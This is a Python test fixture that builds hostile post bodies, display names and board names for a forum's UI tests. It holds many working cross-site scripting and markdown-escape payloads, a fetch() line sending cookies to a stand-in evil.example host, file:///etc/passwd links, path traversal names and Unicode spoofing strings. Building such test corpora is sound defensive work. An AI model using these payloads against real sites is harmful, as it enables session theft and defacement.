"""Hostile text for the UI tests: post bodies, display names and board names written to run a
script, load something from another origin, or make one author look like another.

Every script payload sets ``window.__pwned`` or calls ``alert``/``fetch``, so that a test can
tell that it ran; every remote address is under ``evil.example`` (RFC 2606: never resolves), so
that a request for it is recognised.  The corpus is built from base payloads and the
markdown contexts they are placed in.
"""

from __future__ import annotations

from dazibao.protocol import identity, limits, posts
from dazibao.protocol.errors import BoardError, BodyError

PWN = "window.__pwned=1"
EVIL = "https://evil.example"

# Raw HTML, attribute and URL tricks.
BASE: list[str] = [
    f"<script>{PWN}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={PWN}>",
    f'<img src="{EVIL}/pixel.png">',
    f"<img src=x onerror=\"fetch('{EVIL}/'+document.cookie)\">",
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<svg><a xlink:href=\"javascript:{PWN}\"><text x=0 y=20>click</text></a></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f"<iframe src=\"javascript:{PWN}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<object data=\"javascript:{PWN}\"></object>",
    f"<embed src={EVIL}/x.swf>",
    f"<a href=\"javascript:{PWN}\">click me</a>",
    f"<a href=\"{EVIL}\" ping=\"{EVIL}/ping\">ping</a>",
    f"<body onload={PWN}>",
    f"<details open ontoggle={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f"<video><source onerror={PWN}></video>",
    f"<audio src=x onerror={PWN}>",
    f"<marquee onstart={PWN}>x</marquee>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/prefetch>",
    f"<style>@import url({EVIL}/x.css); body {{ background: url({EVIL}/bg.png) }}</style>",
    f"<div style=\"background:url({EVIL}/bg.png)\">styled</div>",
    "<span style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">overlay</span>",
    f"<meta http-equiv=\"refresh\" content=\"0;url={EVIL}\">",
    f"<base href=\"{EVIL}/\">",
    f"<form action=\"{EVIL}/steal\"><input name=q><button>go</button></form>",
    f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\">",
    f"<!--<img src=x onerror={PWN}>-->",
    f"<![CDATA[<script>{PWN}</script>]]>",
    f"\"><script>{PWN}</script>",
    f"'><script>{PWN}</script>",
    f"</textarea><script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f"<x onclick={PWN}>x</x>",
    f"<img srcset=\"{EVIL}/a.png 1x\">",
    f"<picture><source srcset=\"{EVIL}/b.png\"><img></picture>",
    f"<a href=\"jav&#x09;ascript:{PWN}\">tab</a>",
    f"<a href=\"&#106;avascript:{PWN}\">entity</a>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#x3C;script&#x3E;window.__pwned=1&#x3C;/script&#x3E;",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "{{ 7*7 }} {% raw %} ${alert(1)} #{7*7}",
    f"<template><script>{PWN}</script></template>",
    f"<portal src={EVIL}></portal>",
]

# Markdown tricks: links, autolinks, images, references, code.
MARKDOWN: list[str] = [
    f"[click](javascript:{PWN})",
    f"[click](JaVaScRiPt:{PWN})",
    f"[click](  javascript:{PWN}  )",
    f"[click](javascript&#58;{PWN})",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/protocol-relative)",
    "[click](/\\evil.example)",
    "[local](/ids)",
    f"[title]({EVIL} \"t\\\" onmouseover=\\\"{PWN}\")",
    f"[x]({EVIL}/\"onmouseover=\"{PWN})",
    f"<javascript:{PWN}>",
    f"<{EVIL}/\"onmouseover=\"{PWN}>",
    f"![remote image]({EVIL}/track.png)",
    f"![x](x onerror={PWN})",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f"[ref]\n\n[ref]: javascript:{PWN}",
    f"[ref][r]\n\n[r]: {EVIL}/ref \"title\"",
    f"`<script>{PWN}</script>`",
    f"```html\n<script>{PWN}</script>\n```",
    f"```\"><script>{PWN}</script>\n<img src=x onerror={PWN}>\n```",
    f"    <script>{PWN}</script>",
    f"> <script>{PWN}</script>\n> > <img src=x onerror={PWN}>",
    f"* <img src=x onerror={PWN}>\n* [x](javascript:{PWN})",
    f"**<img src=x onerror={PWN}>**",
    f"_[x](javascript:{PWN})_",
    f"[[[[[[nested](javascript:{PWN})]]]]]",
    f"[a]({EVIL}/a)[b](javascript:{PWN})",
    f"javascript:{PWN}",
    f"{EVIL}/<script>{PWN}</script>",
    "www.evil.example is a fuzzy link",
    "mailto:someone@evil.example and someone@evil.example",
    f"<a href='{EVIL}'>html link</a> and [md link]({EVIL})",
    "ｊavascript:alert(1) with a full-width letter",
    "# Heading <script>window.__pwned=1</script>\n\n---\n\n"
    "| a | b |\n|---|---|\n| <img src=x onerror=window.__pwned=1> | 2 |",
]

# Unicode tricks (allowed in bodies, refused in names by the protocol).
UNICODE: list[str] = [
    "\u202egnp.exe <- right-to-left override",
    "\u202e<script>window.__pwned=1</script>",
    "normal \u2066isolate\u2069 \u200b\u200c\u200d zero widths \ufeff",
    "Ω≈ç√∫˜µ≤≥÷ 工资 加班 \U0001f4a9 \u0301\u0301\u0301",
    "\u0000".replace("\u0000", "") + "tab\tseparated\ttext",
]

# Huge and pathological inputs (each within the 16 KiB body limit).
HUGE: list[str] = [
    "<" * 16_000,
    "[" * 8_000 + "](javascript:alert(1))",
    ">" * 5_000 + " deep quote",
    "*" * 10_000,
    "`" * 8_000,
    "<img src=x onerror=window.__pwned=1>" * 400,
    ("[x](javascript:alert(1)) " * 500)[:16_000],
    "工资" * 2_700,
]

# Names: no control or format characters (the protocol refuses them), but markup is allowed.
NAMES: list[str] = [
    f"<script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"\"><svg onload={PWN}>",
    f"'><svg onload={PWN}>",
    f"<a href=javascript:{PWN}>x</a>",
    "</bdi></span><script>window.__pwned=1</script>",
    "小明",  # the same name as a member's pseudonym, from another key
    "Li Wei",
    f"[me](javascript:{PWN})",
    f"<iframe src={EVIL}>",
    f"<style>*{{background:url({EVIL}/n)}}</style>",
    "{{ config }}",
    "&lt;b&gt;entity&lt;/b&gt;",
    "javascript:alert(1)",
    "organizer (official)",
    "muaz-ooly-d3fg-i3b4-eldm-vhiz",  # a name that looks like a fingerprint
    "<b>bold</b> <i>name</i>",
    "<marquee>moving</marquee>",
    "<body onload=alert(1)>",
    "%3Cscript%3E",
    "\"quoted\" 'name'",
    "<!-- comment -->",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/>",
    "<img src=https://evil.example/name.png>",
]


def _name_ok(name: str) -> bool:
    try:
        identity.check_display_name(name)
    except BodyError:
        return False
    return True


def _body_ok(body: str) -> bool:
    try:
        posts.check_text_body(body)
    except BodyError:
        return False
    return True


def bodies() -> list[str]:
    """At least 100 distinct hostile bodies, each one a valid post body."""
    out: list[str] = []
    for payload in BASE + MARKDOWN + UNICODE + HUGE:
        out.append(payload)
    # The raw payloads again, inside the markdown contexts they might escape from.
    for payload in BASE[:30]:
        out.append(f"> quoted {payload}\n\n*{payload}*")
        out.append(f"[{payload}]({EVIL}/{len(out)})")
    seen: set[str] = set()
    unique = []
    for body in out:
        if body not in seen and _body_ok(body):
            seen.add(body)
            unique.append(body)
    return unique


def names() -> list[str]:
    """At least 100 distinct hostile display names, each one a valid display name."""
    candidates = list(NAMES)
    for payload in BASE + MARKDOWN:
        candidates.append(payload.replace("\n", " ").replace("\t", " ")[: limits.MAX_DISPLAY_NAME_CHARS].strip())
    seen: set[str] = set()
    unique = []
    for name in candidates:
        if name and name not in seen and _name_ok(name):
            seen.add(name)
            unique.append(name)
    return unique


def boards() -> list[str]:
    """Hostile board names that the protocol accepts."""
    candidates = [
        "<script>window.__pwned=1</script>",
        "\"><img src=x onerror=window.__pwned=1>",
        "javascript:alert(1)",
        "../../ids",
        "a/b?c=d#e",
        "%2e%2e%2F",
        "<svg onload=window.__pwned=1>",
        "{{7*7}}",
    ]
    out = []
    for board in candidates:
        try:
            posts.check_board(board)
        except BoardError:
            continue
        out.append(board)
    return out
